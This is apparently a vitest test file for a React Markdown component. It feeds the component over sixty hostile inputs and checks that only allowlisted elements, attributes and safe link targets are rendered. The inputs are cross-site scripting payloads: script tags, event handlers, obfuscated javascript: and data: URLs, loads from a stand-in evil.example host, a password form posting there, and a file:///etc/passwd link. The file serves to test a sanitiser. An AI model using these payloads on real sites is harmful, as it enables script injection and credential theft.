// What somebody might write into a notice who means harm, or who pastes from elsewhere. None of it may become anything but text,
// or the plain elements that notices have.
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";

import { Markdown } from "./Markdown";

afterEach(cleanup);

const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "<embed src=//evil.example>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>body{display:none}</style>",
  "<form action=//evil.example><input name=password></form>",
  '<a href="javascript:alert(1)">点我</a>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "[点我](javascript:alert(1))",
  "[点我](JaVaScRiPt:alert(1))",
  "[点我](\u0001javascript:alert(1))",
  "[点我](java\tscript:alert(1))",
  "[点我](java\nscript:alert(1))",
  "[点我](&#106;avascript:alert(1))",
  "[点我](javascript&colon;alert(1))",
  "[点我](vbscript:msgbox(1))",
  "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[点我](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[点我](file:///etc/passwd)",
  "[点我](blob:https://evil.example/1)",
  "[点我](//evil.example)",
  "[点我](\\\\evil.example)",
  "[点我](/\\evil.example)",
  "[点我](https:\\\\evil.example)",
  "[点我](https://keping.example@evil.example/)",
  "[点我](ftp://evil.example)",
  "[点我](intent://evil#Intent;scheme=https;end)",
  "[点我](about:blank)",
  "[点我](mailto:a@b.example?subject=x&body=y)",
  '[点我](https://a.example" onclick="alert(1))',
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "<javascript:alert(1)>",
  "<data:text/html,1>",
  "![图](javascript:alert(1))",
  "![图](https://evil.example/pixel.gif)",
  "[链]: javascript:alert(1)\n\n[链]",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
  "# <script>alert(1)</script>",
  "> <iframe src=//evil.example>",
  "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
  "**<script>alert(1)</script>**",
  "*[x](javascript:alert(1))*",
  "\\<script>alert(1)\\</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "{{constructor.constructor('alert(1)')()}}",
  "\u202eevil\u202c <b onmouseover=alert(1)>x</b>",
];

const elements = new Set(
  "A BLOCKQUOTE BR CODE DIV EM H3 H4 H5 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL".split(" "),
);
const attributes = new Set(["href", "class", "target", "rel", "scope", "start", "tabindex"]);

test("there are sixty hostile texts and more", () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(60));

test.each(hostile)("%j is text", (text) => {
  const { container } = render(<Markdown text={text} />);
  for (const element of container.querySelectorAll("*")) {
    expect(elements).toContain(element.tagName);
    for (const { name } of element.attributes) expect(attributes).toContain(name);
  }
  for (const link of container.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^(https?:\/\/[^/@]+(\/|$)|\/(?![/\\])|mailto:)/);
    expect(link.getAttribute("href")).not.toContain("evil");
  }
});
